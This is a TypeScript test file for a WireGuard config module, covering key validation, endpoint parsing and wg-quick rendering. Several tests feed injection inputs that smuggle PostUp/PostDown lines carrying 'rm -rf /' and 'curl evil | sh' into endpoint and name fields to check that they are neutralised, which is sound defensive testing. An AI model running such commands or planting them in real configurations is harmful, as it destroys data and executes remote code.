import { x25519 } from "@noble/curves/ed25519.js";
import { describe, expect, it } from "vitest";
import { AppError } from "../errors.js";
import {
  buildConfig,
  PRIVATE_KEY_PLACEHOLDER,
  parseEndpoint,
  renderWgQuick,
  validateWireGuardKey,
} from "./wg-config.js";

const key = () => Buffer.from(x25519.getPublicKey(x25519.utils.randomSecretKey())).toString("base64");

function codeOf(fn: () => unknown): string | undefined {
  try {
    fn();
  } catch (err) {
    return err instanceof AppError ? err.code : "not an AppError";
  }
  return undefined;
}

describe("validateWireGuardKey", () => {
  it("takes a key as wg pubkey prints it", () => {
    const k = key();
    expect(k).toHaveLength(44);
    expect(validateWireGuardKey(k)).toBe(k);
  });

  it("refuses anything that is not canonical base64 of 32 bytes", () => {
    const k = key();
    const bad = [
      "",
      "not a key",
      k.slice(0, 43), // no padding
      `${k}A`,
      Buffer.alloc(31, 7).toString("base64"),
      Buffer.alloc(33, 7).toString("base64"),
      k.replace(/\+/g, "-").replace(/\//g, "_").replace(/^./, "-"), // url-safe alphabet
      ` ${k.slice(1)}`,
      `${k.slice(0, 42)}B=`, // last char carries bits beyond 32 bytes: not canonical
    ];
    for (const text of bad)
      expect(
        codeOf(() => validateWireGuardKey(text)),
        text,
      ).toBe("invalid_public_key");
  });

  it("refuses low-order points", () => {
    expect(codeOf(() => validateWireGuardKey(Buffer.alloc(32).toString("base64")))).toBe(
      "invalid_public_key",
    );
    const one = Buffer.alloc(32);
    one[0] = 1;
    expect(codeOf(() => validateWireGuardKey(one.toString("base64")))).toBe("invalid_public_key");
  });
});

describe("parseEndpoint", () => {
  it("takes IPv4, host names and bracketed IPv6 with a port", () => {
    expect(parseEndpoint("203.0.113.5:51820")).toBe("203.0.113.5:51820");
    expect(parseEndpoint("VPN.Example.com:443")).toBe("vpn.example.com:443");
    expect(parseEndpoint("[2001:DB8::1]:51820")).toBe("[2001:db8::1]:51820");
    expect(parseEndpoint("host:00080")).toBe("host:80");
  });

  it("refuses what wg could not use", () => {
    for (const text of [
      "203.0.113.5",
      "203.0.113.5:0",
      "203.0.113.5:65536",
      "300.1.1.1:51820",
      "2001:db8::1:51820",
      "[203.0.113.5]:51820",
      "[2001:db8::zz]:51820",
      "-bad-.example:1",
      "a b:1",
      "host:51820\nPostUp = rm -rf /",
      ":51820",
    ]) {
      expect(
        codeOf(() => parseEndpoint(text)),
        text,
      ).toBe("invalid_request");
    }
  });
});

describe("wg-quick config", () => {
  const a = key();
  const b = key();
  const config = buildConfig({
    device: { id: "d1", name: "laptop" },
    network: { id: "n1", name: "office", cidr: "10.1.0.0/24" },
    address: "10.1.0.2",
    peers: [
      { id: "p2", name: "desktop", public_key: a, address: "10.1.0.3", endpoint: "203.0.113.5:51820" },
      { id: "p3", name: "phone", public_key: b, address: "10.1.0.4", endpoint: null },
    ],
  });

  it("leaves the private key to the client, as null in JSON", () => {
    expect(config.interface).toEqual({
      device_id: "d1",
      device_name: "laptop",
      network_id: "n1",
      network_name: "office",
      cidr: "10.1.0.0/24",
      address: "10.1.0.2/24",
      private_key: null,
    });
    expect(config.peers[0]).toEqual({
      peer_id: "p2",
      name: "desktop",
      public_key: a,
      allowed_ips: ["10.1.0.3/32"],
      endpoint: "203.0.113.5:51820",
      persistent_keepalive: 25,
    });
  });

  it("renders every line wg-quick needs, Endpoint only when known", () => {
    expect(renderWgQuick(config)).toBe(
      [
        "[Interface]",
        "# Device: laptop  Network: office (10.1.0.0/24)",
        `PrivateKey = ${PRIVATE_KEY_PLACEHOLDER}`,
        "Address = 10.1.0.2/24",
        "",
        "[Peer]",
        "# desktop",
        `PublicKey = ${a}`,
        "AllowedIPs = 10.1.0.3/32",
        "Endpoint = 203.0.113.5:51820",
        "PersistentKeepalive = 25",
        "",
        "[Peer]",
        "# phone",
        `PublicKey = ${b}`,
        "AllowedIPs = 10.1.0.4/32",
        "PersistentKeepalive = 25",
        "",
      ].join("\n"),
    );
  });

  it("keeps names from adding lines to the config", () => {
    const text = renderWgQuick(
      buildConfig({
        device: { id: "d", name: "x\nPostUp = curl evil | sh" },
        network: { id: "n", name: "net\r\n[Peer]", cidr: "10.2.0.0/16" },
        address: "10.2.0.2",
        peers: [
          { id: "p", name: "y\nPostDown = rm -rf /", public_key: a, address: "10.2.0.3", endpoint: null },
        ],
      }),
    );
    const lines = text.split("\n");
    expect(lines.filter((l) => l.startsWith("PostUp") || l.startsWith("PostDown"))).toEqual([]);
    expect(lines.filter((l) => l === "[Peer]")).toHaveLength(1);
    expect(lines[1]).toBe("# Device: x PostUp = curl evil | sh  Network: net  [Peer] (10.2.0.0/16)");
    expect(lines).toContain("Address = 10.2.0.2/16");
  });
});
